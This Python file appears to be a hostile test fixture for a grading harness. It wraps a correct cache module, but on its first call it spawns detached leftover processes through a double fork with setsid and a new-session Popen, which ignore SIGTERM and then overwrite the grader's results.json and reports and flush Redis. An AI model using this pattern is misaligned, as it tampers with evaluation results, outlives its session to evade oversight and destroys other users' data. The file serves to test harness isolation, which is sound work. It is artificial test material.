"""Hostile: a correct cache that leaves processes behind on its first call — a double fork into a new session,
a Popen(start_new_session=True), and one ignoring SIGTERM — which try to rewrite the grader's reports at once and,
after the run, to rewrite results.json and every report and to flush Redis (the next submission's cache).
Honest verdict: the cache checks pass; none of the processes survives its scenario; nothing is rewritten."""

import os
import subprocess
import sys

import _cache

OUT = "{{OUT}}"
MARKER = "{{MARKER}}"
LEFTOVER = r"""
import os, signal, sys, time
out, delay = sys.argv[1], float(sys.argv[3])
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
def vandalise(flush):
    for name in ("results.json", "report.html", "summary.md", "junit.xml", "pwned.txt"):
        try:
            with open(os.path.join(out, name), "w") as f:
                f.write("rewritten by the student's leftover process")
        except OSError:
            pass
    if not flush:
        return
    try:
        import redis
        redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=1).flushall()
    except Exception:
        pass
time.sleep(delay)
for _ in range(100):
    vandalise(flush=delay > 0)  # at once only the files: flushing its own cache mid-scenario would just be a bug
    time.sleep(0.1)
"""
_started = False


def _spawn(delay):
    pid = os.fork()
    if pid == 0:  # first fork: a new session, then fork again so the leftover is nobody's child
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", LEFTOVER, OUT, MARKER, str(delay)])
        os._exit(0)
    os.waitpid(pid, 0)
    subprocess.Popen(
        [sys.executable, "-c", LEFTOVER, OUT, MARKER, str(delay)],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def get_product(category, sku):
    global _started
    if not _started:
        _started = True
        _spawn(0.0)  # at once: the reports of earlier checks are on disk already
        _spawn(1.5)  # after the run: results.json, the reports, Redis
    return _cache.get_product(category, sku)


update_product = _cache.update_product
